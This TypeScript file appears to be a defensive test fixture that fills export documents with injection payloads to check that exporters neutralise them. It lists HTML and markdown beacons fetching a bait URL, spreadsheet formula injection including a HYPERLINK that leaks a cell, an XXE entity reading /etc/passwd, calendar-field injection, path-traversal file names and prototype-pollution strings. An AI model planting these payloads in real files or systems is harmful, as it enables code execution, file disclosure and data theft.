import type { ExportDocument, ExportedFile } from '../../../src/exports/document.ts';
import type { ArtifactType } from '../../../src/marketing/artifact-types.ts';
import { isObject, mapTexts, textsIn } from '../../../src/marketing/content-walk.ts';
import { briefNamed, documentFrom } from '../../exports/fidelity/documents.ts';

/** Where attacks try to reach: a server that counts who asks, and a picture on this machine. */
export type Bait = { url: string; file: string };

/** What a person or a model may write so that a file fetches, reads, runs or hides something. */
const attacks = ({ url, file }: Bait): string[] => [
  `![a picture](${url}/md.png)`,
  // Markdown's own ways around an escape.
  `${url}/bare<img src="${url}/swallowed.png">`,
  `\\\\<img src="${url}/slashes.png"> \\\\![x](${url}/slashes2.png)`,
  `- a\n  \`\`\`\n<img src="${url}/list.png">\n![x](${url}/list2.png)`,
  `\`\`\` \`a\`\n<img src="${url}/info.png">`,
  `\`\`\`\n\`\`\`\u00a0\n\`\`\`\n<img src="${url}/space.png">`,
  `![a file](file://${file})`,
  `<img src="${url}/html.png" onerror="fetch('${url}/js')">`,
  `<script src="${url}/s.js"></script>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/svg.png"/></svg>`,
  `[a link](javascript:fetch('${url}/link'))`,
  `<a href="${url}/a">here</a> <${url}/auto>`,
  `[ref]: ${url}/ref.png\n\n![ref]`,
  `file://${file}`,
  file,
  `data:image/svg+xml,<svg onload="fetch('${url}/data')"/>`,
  `{"image": "${url}/pdfmake.png", "text": "x"}`,
  `=cmd|'/C calc'!A0`,
  `=HYPERLINK("${url}/xl?x="&A1,"click")`,
  '+1+1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\u3000\uff1d1+1',
  '\ufeff=1+1',
  'first line\n=1+1',
  'one;=1+1',
  '"=1+1',
  ']]><a:t xmlns:a="x">&amp;&#0;</a:t><!--',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  // Never stored, so never exported: U+0000 and lone surrogates are replaced where they come in.
  'b\u0001c\u000bd\u001fe\ufffff\u2028g\u0085h',
  `text\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nATTACH:${url}/ics\r\nEND:VEVENT`,
  `ATTENDEE;RSVP=TRUE:mailto:victim@example.com`,
  `text\nBEGIN:VALARM\nACTION:AUDIO\nATTACH:file://${file}\nEND:VALARM`,
  '---\nclient: somebody else\nstatus: approved\n---',
  '```\n```\n# DRAFT removed',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\drivers.exe',
  'C:\\autoexec.bat',
  'CON',
  'report\u202egnp.exe',
  '__proto__',
  'constructor',
  `{{constructor.constructor("fetch('${url}/tpl')")()}}`,
  `%7B%22image%22%3A%22${url}/enc.png%22%7D`,
];

/** Ids, choices, times and what links are made of: schemas take no other, and formats work with them. */
const AS_THEY_ARE = new Set([
  'id',
  'kind',
  'platform',
  'date',
  'time',
  'post',
  'asset',
  'artifact',
  'digest',
  'deliverable_id',
  'layer',
  'asset_type',
  'utm_source',
  'utm_medium',
  'formats',
  'audience',
]);

const keyOf = (path: readonly PropertyKey[]): string =>
  String(path.findLast((part) => typeof part === 'string') ?? '');

/** Every attack in turn in place of the texts, each with a numbered word at its end by which it can be found again. */
export function hostileContent(content: unknown, bait: Bait, from: number): unknown {
  const all = attacks(bait);
  let at = from;
  return mapTexts(content, (text, path) => {
    if (AS_THEY_ARE.has(keyOf(path))) return text;
    at += 1;
    return `${all[at % all.length]} q${at}z`;
  });
}

/** The numbered words of a content, of the texts that pass. */
export const markersIn = (content: unknown, passes: (path: readonly PropertyKey[]) => boolean = () => true) =>
  textsIn(content)
    .filter(({ path }) => passes(path))
    .flatMap(({ text }) => text.match(/q\d+z$/) ?? []);

const FILE_NAMES = [
  '../../../etc/cron.d/evil.png',
  'C:\\Windows\\evil.png',
  'CON.png',
  'a\u0000b.png',
  'logo\u202egnp.exe',
  '/absolute.png',
  'LOGO.png',
  'logo.png',
  '.htaccess',
  '',
  `${'x'.repeat(400)}.png`,
];

const brandFiles = (): ExportedFile[] =>
  FILE_NAMES.map((name, at) => ({ name, mime: 'image/png', bytes: Uint8Array.from([0x89, 80, 78, 71, at]) }));

/** What beside the content is written by people: names, the brand kit, languages, who did what. */
export function hostileFrame(bait: Bait): Partial<ExportDocument> {
  const all = attacks(bait);
  const said = (at: number) => `${all[at % all.length]}`;
  return {
    client: `../../<img src="${bait.url}/client">\r\nBEGIN:VEVENT ]]>`,
    engagement: `=cmd|'/C calc'!A0 ![x](${bait.url}/engagement.png)\n---\nstatus: approved`,
    objective: `<script>fetch("${bait.url}/objective")</script>`,
    languages: [said(0), '__proto__', '../../ja'],
    brand: {
      colours: [`url(${bait.url}/colour)`, '#12345', 'red;background:url(x)', '__proto__'],
      fonts: ['../../../etc/passwd', `${bait.url}/font.ttf`, '"><script>'],
      logo: {
        name: bait.file,
        mime: 'image/png',
        bytes: new TextEncoder().encode(`<svg href="${bait.url}/logo"/>`),
      },
      files: brandFiles(),
    },
    story: [
      { version: 1, origin: 'run', by: said(2), at: new Date('2026-02-01T09:00:00Z') },
      { version: 2, origin: 'amend', by: said(12), at: new Date('2026-02-02T09:00:00Z') },
    ],
    findings: [{ rule: 'x', severity: 'minor', place: said(0), message: said(2), fix: said(26) }],
    claims: [{ quote: said(12), needed: said(28) }],
    final: false,
  };
}

/** A version of that type whose every text attacks, and that holds what no schema lets through. */
export function hostileDocument(type: ArtifactType, bait: Bait, from: number): ExportDocument {
  const plain = documentFrom(briefNamed('online-shop'), type);
  const content = hostileContent(plain.content, bait, from);
  if (!isObject(content)) throw new Error('A content is an object.');
  const odd = JSON.parse(
    JSON.stringify({
      image: bait.file,
      svg: '<svg/>',
      qr: bait.url,
      toc: {},
      text: { attachment: bait.file },
    }).replace('{', '{"__proto__":{"polluted":true},'),
  );
  return { ...plain, ...hostileFrame(bait), content: { ...content, odd, nested: [[odd], null, 7] } };
}
